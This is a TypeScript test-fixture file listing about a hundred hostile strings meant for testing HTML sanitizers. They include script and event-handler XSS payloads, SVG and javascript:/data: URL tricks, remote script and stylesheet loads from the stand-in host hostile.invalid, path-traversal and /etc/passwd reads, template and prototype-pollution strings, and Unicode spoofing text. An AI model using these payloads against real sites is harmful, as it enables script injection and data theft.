/** What the texts below do where a page runs them. */
const RUN = 'window.__pwned=1';

const ELEMENTS = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=//hostile.invalid/x.js></SCRIPT>`,
  `<script type=module>${RUN}</script>`,
  `</script><script>${RUN}</script>`,
  `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`,
  `</style><script>${RUN}</script>`,
  `<!--><script>${RUN}</script>-->`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `<script\u0000>${RUN}</script>`,
  `%3Cscript%3E${RUN}%3C/script%3E`,
  `&lt;script&gt;${RUN}&lt;/script&gt;`,
  `&#60;script&#62;${RUN}&#60;/script&#62;`,
  `\u003cscript\u003e${RUN}\u003c/script\u003e`,
  `＜script＞${RUN}＜/script＞`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:${RUN}"></object>`,
  `<embed src="javascript:${RUN}">`,
  `<base href="https://hostile.invalid/">`,
  `<meta http-equiv="refresh" content="0;url=javascript:${RUN}">`,
  `<link rel="stylesheet" href="https://hostile.invalid/x.css">`,
  `<form action="javascript:${RUN}"><button>x</button></form>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${RUN}>`,
  `<dialog open><p>Sign in</p></dialog>`,
  `<plaintext>`,
  `<!--`,
  `<![CDATA[<script>${RUN}</script>]]>`,
];

const EVENTS = [
  `<img src=x onerror=${RUN}>`,
  `<img src=x onerror="${RUN}"`,
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `\`><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' autofocus onfocus='${RUN}`,
  `x" onerror=${RUN} "`,
  `<body onload=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<video><source onerror="${RUN}"></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<p style="animation:x" onanimationstart=${RUN}>`,
  `<a href=# onclick=${RUN}>x</a>`,
  `<marquee onstart=${RUN}>`,
  `<div onpointerenter=${RUN} style="position:fixed;inset:0">`,
];

const DRAWINGS = [
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id=x onload=${RUN}>#x">`,
  `<svg><foreignObject><iframe src="javascript:${RUN}"></foreignObject></svg>`,
  `<svg/onload=${RUN}>`,
  `</svg><img src=x onerror=${RUN}>`,
  `M0 0L9e999 9e999"/><script>${RUN}</script>`,
];

const ADDRESSES = [
  `javascript:${RUN}`,
  `JaVaScRiPt:${RUN}`,
  ` javascript:${RUN}`,
  `java\nscript:${RUN}`,
  `java\tscript:${RUN}`,
  `\u0001javascript:${RUN}`,
  `javascript&colon;${RUN}`,
  `javascript://https://example.org/%0a${RUN}`,
  `data:text/html,<script>${RUN}</script>`,
  `data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19wd25lZD0xPC9zY3JpcHQ+`,
  `vbscript:msgbox(1)`,
  `blob:https://hostile.invalid/1`,
  `file:///etc/passwd`,
  `//hostile.invalid/x`,
  `\\\\hostile.invalid\\x`,
  `http://hostile.invalid/`,
  `https://"onmouseover=${RUN} x="`,
  `../../../../etc/passwd`,
  `intent://hostile.invalid#Intent;scheme=javascript;end`,
];

const STYLES = [
  `url(https://hostile.invalid/x.png)`,
  `red;background:url(https://hostile.invalid/x)`,
  `expression(${RUN})`,
  `@import "https://hostile.invalid/x.css";`,
  `}</style><style>*{display:none}`,
  `var(--x,url(https://hostile.invalid/x))`,
];

const PROGRAMS = [
  `{{constructor.constructor('${RUN}')()}}`,
  `\${${RUN}}`,
  `<%= ${RUN} %>`,
  `#{${RUN}}`,
  `{count} {date} {place}`,
  `$& $1 $\` $'`,
  `__proto__`,
  `constructor`,
  `toString`,
  `{"__proto__":{"__pwned":1}}`,
  `');${RUN};//`,
  `\u2028${RUN}\u2029`,
];

const WRITING = [
  `\u202ecod.exe\u202c`,
  `\u2066\u2067\u2068\u202e\u202bunclosed`,
  `zero\u200b\u200c\u200d\u2060\ufeffwidth`,
  `Z${'\u0335\u0321\u0337'.repeat(12)}algo`,
  `${'W'.repeat(600)}`,
  `${'ﷺ'.repeat(120)}`,
  `line\nline\r\nline\u0000\u0008\u001b[31m`,
];

/**
 * A hundred texts that try to be run, to be fetched, to lead elsewhere or to break the page, for tests. One that runs sets
 * `window.__pwned`; addresses lead to `hostile.invalid`, which does not exist.
 */
export const HOSTILE_TEXTS: readonly string[] = [
  ...ELEMENTS,
  ...EVENTS,
  ...DRAWINGS,
  ...ADDRESSES,
  ...STYLES,
  ...PROGRAMS,
  ...WRITING,
];
